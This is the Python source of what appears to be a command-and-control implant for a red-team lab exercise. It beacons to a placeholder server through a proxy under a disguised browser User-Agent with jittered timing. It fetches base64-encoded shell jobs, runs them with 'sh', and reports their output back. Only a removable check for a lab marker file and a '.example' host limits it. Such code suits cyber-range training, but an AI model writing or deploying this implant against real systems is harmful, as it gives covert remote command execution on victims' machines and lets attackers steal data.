"""The exercise's implant. It beacons through the organisation's proxy and runs what it is told.

Works in labs only: without /etc/cyder-lab, or with a server outside `.example`, it ends at once.
"""

import base64
import fcntl
import json
import os
import pathlib
import random
import socket
import subprocess
import time
import urllib.error
import urllib.request
from typing import Any

SERVER = "http://cdn.sync-update.example"
PROXY = "http://10.10.10.30:3128"
AGENT = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) SyncUpdate/1.9"
INTERVAL, LIFE, LIMIT = 5.0, 12 * 3600, 200_000
HERE = pathlib.Path(__file__).resolve().parent
ME = socket.gethostname()


def ask(path: str, data: bytes | None = None) -> Any:
    request = urllib.request.Request(SERVER + path, data=data, headers={"User-Agent": AGENT})
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": PROXY}))
    with opener.open(request, timeout=15) as answer:
        return json.loads(answer.read(2_000_000))


def run(script: bytes, limit: int) -> dict[str, Any]:
    try:
        done = subprocess.run(["sh", "-s"], input=script, capture_output=True, timeout=limit, cwd=pathlib.Path.home())
        code, out, err = done.returncode, done.stdout, done.stderr
    except subprocess.TimeoutExpired as late:
        code, out, err = 124, late.stdout or b"", late.stderr or b""
    return {"exit": code, "stdout": out[:LIMIT].decode(errors="replace"), "stderr": err[:LIMIT].decode(errors="replace")}


def beacon() -> bool:
    answer = ask(f"/api/v2/status?id={ME}")
    if "job" not in answer:
        return False
    result = run(base64.b64decode(answer["job"]), min(int(answer.get("limit", 60)), 600))
    ask(f"/api/v2/report?id={ME}&n={answer['n']}", json.dumps(result).encode())
    return True


def main() -> None:
    marker = pathlib.Path("/etc/cyder-lab")
    if not (marker.exists() and "training lab" in marker.read_text() and SERVER.endswith(".example")):
        return
    lock = os.open(HERE / ".lock", os.O_CREAT | os.O_RDWR, 0o600)
    try:
        fcntl.flock(lock, fcntl.LOCK_EX | fcntl.LOCK_NB)
    except BlockingIOError:
        return
    end = time.monotonic() + LIFE
    while time.monotonic() < end:
        try:
            busy = beacon()
        except (OSError, ValueError, KeyError):
            busy = False
        time.sleep(0.2 if busy else random.uniform(INTERVAL - 0.8, INTERVAL + 0.8))


if __name__ == "__main__":
    main()
